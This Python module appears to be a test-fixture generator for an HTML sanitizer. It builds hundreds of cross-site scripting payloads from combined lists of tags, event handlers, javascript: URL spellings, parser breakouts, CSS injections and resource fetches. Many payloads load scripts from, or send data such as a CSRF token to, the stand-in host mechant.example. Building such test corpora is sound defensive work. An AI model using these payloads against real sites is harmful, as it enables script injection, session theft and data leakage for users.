"""Hostile HTML by the hundred, generated: every way that we know of to make a page run what a stranger wrote.

Each kind, run anywhere, would set `window.__ran` to its number, ask an outside host for a file, or open a dialog.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

OUTSIDE = "http://mechant.example"

TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "iframe",
    "object data=x",
    "embed src=x",
    "math",
    "marquee",
    "a href=#",
    "p",
    "div tabindex=1 style=animation-name:x",
    "form",
    "link rel=stylesheet href=x",
    "style",
    "keygen autofocus",
    "isindex",
    "x-made-up contenteditable",
    "template",
)
HANDLERS = (
    "onerror",
    "onload",
    "ontoggle",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onclick",
    "onbegin",
    "onstart",
    "onpageshow",
    "onscroll",
    "oncontentvisibilityautostatechange",
    "onbeforetoggle",
)
CARRIERS = (
    '<a href="{0}">x</a>',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<form><button formaction="{0}">x</button></form>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<math href="{0}">x</math>',
    '<img src="{0}">',
    '<base href="{0}//"><a href=x>x</a>',
    '<meta http-equiv=refresh content="0;url={0}">',
    '<area href="{0}">',
    '<svg><use href="{0}"/></svg>',
    '<svg><animate attributeName=href values="{0}"/></svg>',
    '<blockquote cite="{0}">x</blockquote>',
    '<video poster="{0}"></video>',
    '<body background="{0}">x',
    '<link rel=import href="{0}">',
)
SPELLINGS = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "\x01javascript:{0}",
    "&#106;avascript:{0}",
    "&#x6A;avascript:{0}",
    "javascript&colon;{0}",
    "&Tab;javascript:{0}",
    "java&NewLine;script:{0}",
    "javascript://%0a{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "feed:javascript:{0}",
    "data:image/svg+xml,<svg onload={0} xmlns='http://www.w3.org/2000/svg'/>",
    "//mechant.example/x",
    "view-source:javascript:{0}",
)
SCRIPTS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script >{0}</script >",
    "<script/x>{0}</script>",
    "<script\n>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script>{0}",
    "<script src=//mechant.example/x.js></script>",
    "<script type=module>{0}</script>",
    "<script type=text/plain>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}&amp;lt;/script&amp;gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "<scr\x00ipt>{0}</script>",
    "<script\x0b>{0}</script>",
    "<script\u2028>{0}</script>",
    "<!--><script>{0}</script>-->",
    "<!--<img src='--><script>{0}</script>'>",
    "<![CDATA[<script>{0}</script>]]>",
    "<?xml?><script>{0}</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>{0}</script>'>]>&y;",
    "</p><script>{0}</script>",
    "</blockquote></section></main><script>{0}</script>",
    "'\"><script>{0}</script>",
    "--></style></title></textarea><script>{0}</script>",
    "<%<script>{0}</script>%>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "{{% debug %}}<script>{0}</script>",
    "\u202e<script>{0}</script>",
    "<noscript><p title='</noscript><script>{0}</script>'>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href=//mechant.example/x.js /></svg>",
    "<math><script>{0}</script></math>",
)
HOLES = (
    "svg",
    "math",
    "template",
    "noscript",
    "title",
    "textarea",
    "style",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "select",
    "table",
    "frameset",
    "option",
    "svg><style",
    "svg><desc",
    "svg><title",
    "svg><foreignObject",
    "math><mtext",
    "math><annotation-xml encoding=text/html",
    "math><mi><mglyph",
    "math><mtext><table><mglyph><style",
    "svg></p><style",
    "form><math><mtext></form><form",
)
BREAKOUTS = (
    '<img title="</{1}><img src=x onerror={0}>">',
    "<!--</{1}><img src=x onerror={0}>-->",
    "</{1}><img src=x onerror={0}>",
    "<a id='</{1}><img src=x onerror={0}>'>",
    '<style><!--</style><a title="--></{1}><img src=x onerror={0}>">',
    "<![CDATA[</{1}><img src=x onerror={0}>]]>",
    "<p/id='</{1}><svg/onload={0}>'>",
    "&lt;/{1}&gt;<img src=x onerror={0}>",
)
STYLES = (
    "<style>@import '//mechant.example/x.css';</style>",
    "<style>body{{background:url(//mechant.example/x)}}</style>",
    "<p style=\"background:url('//mechant.example/x')\">x</p>",
    '<p style="width:expression({0})">x</p>',
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    '<p style="-moz-binding:url(//mechant.example/x)">x</p>',
    "<link rel=stylesheet href=//mechant.example/x.css>",
    "<style>@font-face{{font-family:x;src:url(//mechant.example/x)}}*{{font-family:x}}</style>",
    '<div style="behavior:url(//mechant.example/x)">x</div>',
    "<style>input[value^=a]{{background:url(//mechant.example/a)}}</style>",
)
FETCHES = (
    "<img src=//mechant.example/x>",
    "<img srcset='//mechant.example/x 1x'>",
    "<picture><source srcset=//mechant.example/x><img></picture>",
    "<video src=//mechant.example/x autoplay></video>",
    "<audio src=//mechant.example/x autoplay></audio>",
    "<track src=//mechant.example/x>",
    "<iframe src=//mechant.example/x></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data=//mechant.example/x></object>",
    "<embed src=//mechant.example/x>",
    "<link rel=prefetch href=//mechant.example/x>",
    "<link rel=dns-prefetch href=//mechant.example>",
    "<link rel=preload as=script href=//mechant.example/x>",
    "<link rel=modulepreload href=//mechant.example/x>",
    "<input type=image src=//mechant.example/x>",
    "<svg><image href=//mechant.example/x /></svg>",
    "<svg><feImage href=//mechant.example/x /></svg>",
    "<svg><use href=//mechant.example/x#y /></svg>",
    "<img src='//mechant.example/?",
    "<a ping=//mechant.example/x href=#>x</a>",
    "<meta http-equiv=refresh content='0;url=//mechant.example/x'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=//mechant.example/>",
    "<base target=_blank>",
    "<form action=//mechant.example/x><input name=csrfmiddlewaretoken><button>x</button></form>",
    "<portal src=//mechant.example/x></portal>",
    "<frameset><frame src=//mechant.example/x></frameset>",
    "<applet code=x archive=//mechant.example/x></applet>",
    "<bgsound src=//mechant.example/x>",
    "<table background=//mechant.example/x><tr><td>x</table>",
    "<html manifest=//mechant.example/x>",
    "<script src=//mechant.example/x async></script>",
    "<div hx-get=//mechant.example/x hx-trigger=load>x</div>",
    "<div hx-get=/agence/ hx-trigger=load hx-on::load={0}>x</div>",
    "<p data-hx-post=/agence/tri/ hx-trigger=load>x</p>",
    "<p id=mentions class=toast role=alert>x</p>",
    "<form id=csrf name=csrf><input name=action></form>",
    "<a name=__ran id=__ran>x</a><a id=__ran>y</a>",
    "<dialog open>x</dialog>",
    "<p popover=manual autofocus>x</p>",
    "<details ontoggle={0} open>x</details>",
    "<slot name=x onslotchange={0}>x</slot>",
)


def kinds() -> list[str]:
    """Every kind, in a fixed order, each with its own number in what it would run."""
    return [_filled(template, number) for number, template in enumerate(dict.fromkeys(_templates()))]


def _filled(template: str, number: int) -> str:
    return template.replace("\x02", f"(window.__ran=window.__ran||[]).push({number})")


def _templates() -> Iterator[str]:
    """The markup of each kind, with \\x02 where its script stands."""
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} {handler}=\x02>x"
    for carrier, spelling in product(CARRIERS, SPELLINGS):
        yield carrier.replace("{0}", spelling.replace("{0}", "\x02"))
    for hole, breakout in product(HOLES, BREAKOUTS):
        name = hole.split(">")[-1].split(" ")[0].lstrip("/")
        yield f"<{hole}>" + breakout.replace("{0}", "\x02").replace("{1}", name)
    for template in (*SCRIPTS, *STYLES, *FETCHES):
        yield template.format("\x02")
